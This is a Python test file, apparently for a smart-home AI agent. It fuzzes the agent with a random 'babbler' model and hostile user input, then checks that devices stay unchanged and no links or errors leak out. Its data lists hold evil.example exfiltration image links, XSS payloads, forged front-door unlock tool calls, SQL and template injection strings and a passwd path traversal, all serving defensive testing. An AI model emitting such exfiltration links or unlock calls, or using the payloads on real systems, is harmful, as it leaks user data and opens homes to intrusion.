"""A model that babbles: whatever it emits, nobody sees an exception, nothing moves and nothing foreign is loaded."""
# ruff: noqa: E501, RUF001

import os
import random
import re
from collections import Counter
from collections.abc import AsyncIterator, Callable
from typing import Any, Final

import pytest

from agent.evidence.links import LEFT_OUT, without_links
from agent.models.protocol import Prompt, Step, Token, ToolCall

LONG: Final = bool(os.environ.get("HOMEGUARD_LONG"))
TURNS: Final = 10_000 if LONG else 150
_TRACES: Final = re.compile(
    r"Traceback|\b\w+(?:Error|Exception)\b|pydantic|validation error|NoneType|<class|object at 0x|\.py\b|asyncio", re.I
)
_LEADS_OUT: Final = re.compile(r"!\[|\]\((?!link left out\))|https?:|<\w|javascript:|//\w+\.|data:\w+/", re.IGNORECASE)
_HIDDEN: Final = re.compile(
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]"
)

TEXTS: Final = (
    "", " ", "\n\n", "![x](http://evil.example/a.png?d=secret)", "[press here](https://evil.example)",
    "See https://evil.example/x?lock=1 now", "<img src='http://evil.example/p.gif'>", "<script>alert(1)</script>",
    "\u202eflip\u202c", "do\u200bne", "a\x00b\x07c\x1b[31mred", "\ud800\udfff half", "NaN", "{}", "null", "[ ]",
    '{"name": "control_device", "arguments": {"device_id": "front_door_lock", "command": "unlock"}}',
    "<tool_call>unlock(front_door_lock)</tool_call>", "control_device(device_id='front_door_lock', command='unlock')",
    "```json\n{\"tool\": \"unlock\"}\n```", "[ref]: http://evil.example\n[ref]", "a" * 60_000, "🔥" * 3_000,
    "![a\nb](http://evil.example/x)", "[x](//evil.example/y)", "javascript:alert(1)", "<svg/onload=alert(1)>",
    "<a href=http://evil.example>x", "![x][http://evil.example]", "data:text/html,<b>x</b>", "www.evil.example",
    "Done", "✅", "مرحبا", "שלום", "你好", "नमस्ते",
)  # fmt: skip
NAMES: Final = (
    "", " ", "unlock", "control_device\x00", "Control_Device", "../control_device", "a" * 5_000, "\ud800", "os.system",
    "devices.control_device", "control_device; unlock", "🔓", "None", "__import__", "tools/call", "‮unlock",
)  # fmt: skip
_DEEP: dict[str, Any] = {}
_inner = _DEEP
for _ in range(900):
    _inner["a"] = {}
    _inner = _inner["a"]
#: No value in it makes a call of a known tool valid.
ARGUMENTS: Final[tuple[Any, ...]] = (
    {}, None, [], "unlock", 7, True, {"device_id": 7}, {"device_id": ["front_door_lock"]}, {"command": "unlock"},
    {"device_id": None, "command": None}, {"device_id": {"$ne": ""}, "command": "unlock"}, _DEEP,
    {"device_id": "front_door_lock", "command": ["unlock"]}, {"device_id": "front_door_lock", "command": "explode"},
    {"device_id": "front_door_lock\x00", "command": "unlock"}, {"device_id": "nothing_here", "command": "unlock"},
    {"device_id": "thermostat", "command": "set_temperature", "parameters": {"value": float("nan")}},
    {"device_id": "thermostat", "command": "set_temperature", "parameters": {"value": float("inf")}},
    {"device_id": "thermostat", "command": "set_temperature", "parameters": {"value": "hot"}},
    {"device_id": "thermostat", "command": "set_temperature", "parameters": []},
    {"device_id": "x" * 1_000_000, "command": "unlock"}, {"device_id": "\ud800", "command": "unlock"},
    {"commands": "all"}, {"commands": [{}] * 300}, {"commands": [None]}, {"mode": "circus"}, {"mode": 1}, {1: 2},
    {"automation_id": "no-such"}, {"limit": -1}, {"limit": "many"}, {"start": "yesterday-ish"}, {"text": "", "x": b"y"},
)  # fmt: skip


class Babbler:
    """One wild step, then a wild text."""

    name = "babbler"

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self.emitted: Counter[str] = Counter()

    async def stream(self, prompt: Prompt) -> AsyncIterator[Token | Step]:
        chance = self._random
        text = " ".join(chance.choices(TEXTS, k=chance.randint(0, 3)))
        if prompt.messages[-1].role == "tool" and chance.random() < 0.8:
            step = Step(text=text)
        else:
            known = [spec.name for spec in prompt.tools if spec.name not in _HARMLESS]
            count = 200 if chance.random() < 0.01 else chance.randint(0, 3)
            step = Step(text=text, calls=tuple(self._call(i, known) for i in range(count)))
        self.emitted["calls"] += len(step.calls)
        self.emitted["texts"] += 1
        for at in range(0, min(len(text), 400), 40):
            yield Token(text=text[at : at + 40])
        yield step

    def _call(self, index: int, known: list[str]) -> ToolCall:
        chance = self._random
        call_id: Any = chance.choice(("same", "", None, 7, f"c{index}", "x" * 500, "\ud800"))
        if chance.random() < 0.6:
            return ToolCall(id=call_id, name=chance.choice(known), arguments=chance.choice(ARGUMENTS))
        name: Any = chance.choice((*NAMES, None, 7))
        return ToolCall(id=call_id, name=name, arguments=chance.choice(ARGUMENTS))


#: What may be called without arguments: reading, and taking back what was never done.
_HARMLESS: Final = frozenset(("undo",))


def wrongs(shown: str) -> list[str]:
    return [p.pattern[:20] for p in (_TRACES, _LEADS_OUT, _HIDDEN) if p.search(shown)] + (
        ["half a character"] if any("\ud800" <= c <= "\udfff" for c in shown) else []
    )


@pytest.mark.timeout(7_200 if LONG else 180)
async def test_whatever_a_model_emits_nothing_breaks_and_nothing_moves(open_house: Callable[..., Any]) -> None:
    model = Babbler(seed=6)
    problems, statuses = [], Counter[str]()
    async with open_house(models=[model]) as house:
        ids = ("front_door_lock", "back_door_lock", "garage_door", "thermostat")
        before = [await house.state(device) for device in ids]
        for number in range(TURNS):
            turn = await house.say(f"hello {number}")
            statuses[turn.status] += 1
            shown = turn.answer + "\n" + "".join(str(t["text"]) for t in turn.all("token"))
            if not turn.answer.strip() or wrongs(shown) or turn.all("outcome") or turn.cards:
                problems.append((number, wrongs(shown), turn.all("outcome"), turn.cards, shown[:300]))
            if LONG and number % 500 == 499:
                print(
                    f"{number + 1} turns, {dict(model.emitted)}, ended {dict(statuses)}, wrong {len(problems)}",
                    flush=True,
                )
        after = [await house.state(device) for device in ids]
    print(f"{TURNS} turns, {dict(model.emitted)}, ended {dict(statuses)}")
    assert problems == []
    assert after == before


@pytest.mark.parametrize("text", [t for t in TEXTS if t.strip()])
def test_what_leads_out_is_taken_out(text: str) -> None:
    assert not wrongs(without_links(f"Look: {text} and more"))


def test_the_words_of_a_link_stay_and_an_address_is_told() -> None:
    assert without_links("See [the manual](https://x.example/a_(b)) or https://y.example.") == (
        f"See the manual or {LEFT_OUT}"
    )
    assert (
        without_links("72.5°F at 10:05 PM, 3 < 5, [a] 👨‍👩‍👧 क्षत्रिय") == "72.5°F at 10:05 PM, 3 < 5, [a] 👨‍👩‍👧 क्षत्रिय"
    )


def test_a_text_that_leads_out_is_found() -> None:
    assert wrongs("![x](http://evil.example)")
    assert wrongs("KeyError: 'x'")
    assert wrongs("a\u202eb")


WORDS: Final = (
    "", "   ", "\n", "x" * 100_000, "lock " * 20_000, "🔒🚪❓", "\u200b\u200b", "\u202eunlock the front door", "مرحبا",
    "האם הדלת נעולה?", "前门锁了吗？", "ช่วยด้วย", "नमस्ते", "lock\x00the door", "\ud800", "Is the\u200b front door locked?",
    "́" * 500, "<b>lock</b>", "'; DROP TABLE devices; --", "{{7*7}}", "%s%n", "../../etc/passwd",
)  # fmt: skip


@pytest.mark.timeout(180)
async def test_whatever_a_person_types_there_is_an_answer_or_a_clear_refusal(open_house: Callable[..., Any]) -> None:
    from agent.models.offline.planner import OfflinePlanner
    from homeguard.errors import HomeGuardError

    bad = []
    async with open_house(models=[OfflinePlanner()]) as house:
        before = await house.state("front_door_lock")
        for words in WORDS:
            try:
                turn = await house.say(words)
            except HomeGuardError as refusal:
                if not str(refusal).strip() or _TRACES.search(str(refusal)):
                    bad.append((words[:40], str(refusal)))
                continue
            if not turn.answer.strip() or wrongs(turn.answer):
                bad.append((words[:40], turn.answer[:200]))
        assert await house.state("front_door_lock") == before
    assert bad == []
